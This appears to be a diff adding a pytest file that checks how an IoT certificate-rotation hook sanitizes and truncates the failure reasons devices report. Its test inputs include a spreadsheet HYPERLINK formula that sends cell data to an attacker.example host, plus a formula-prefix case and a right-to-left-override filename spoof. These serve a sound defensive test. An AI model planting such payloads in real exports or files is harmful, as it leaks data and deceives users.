@@ -1,0 +1,49 @@
+"""A device's rotation messages as the rotation function reads them: what of a device's text is stored."""
+
+from __future__ import annotations
+
+import pytest
+
+from hook.contract import thing_name
+from hook.rotation_requests import REASON_MAX_LENGTH, parse_request
+from tests.support import certificate_id
+
+BASE = "iot-provisioning-test"
+
+
+def stored_reason(reason: str) -> str:
+    event = {
+        "callerCertificateId": certificate_id("device"),
+        "thingName": thing_name(BASE, "TS-000123"),
+        "step": "result",
+        "jobId": f"{BASE}-rotate-1",
+        "status": "FAILED",
+        "reason": reason,
+    }
+    request = parse_request(event, BASE)
+    assert request is not None
+    return request.reason
+
+
+@pytest.mark.parametrize(
+    ("reason", "stored"),
+    [
+        (
+            '=HYPERLINK("https://attacker.example/?"&B2&C2,"Details")',
+            "?HYPERLINK(?https://attacker.example/???B2?C2,?Details?)",
+        ),
+        ("@SUM(1+1)", "?SUM(1?1)"),
+        ("line\r\nbreak\tand\x00null", "line??break?and?null"),
+        ("caf\u00e9 \u202etxt.exe", "caf? ?txt.exe"),
+        ("TLS handshake failed: timeout (30 s), see /var/log/agent_1.log", None),
+        ("-5 dBm", None),
+    ],
+)
+def test_a_devices_failure_reason_is_stored_in_a_narrow_character_set(
+    reason: str, stored: str | None
+) -> None:
+    assert stored_reason(reason) == (reason if stored is None else stored)
+
+
+def test_a_devices_failure_reason_is_cut_to_its_maximum_length() -> None:
+    assert stored_reason("x" * 5000) == "x" * REASON_MAX_LENGTH
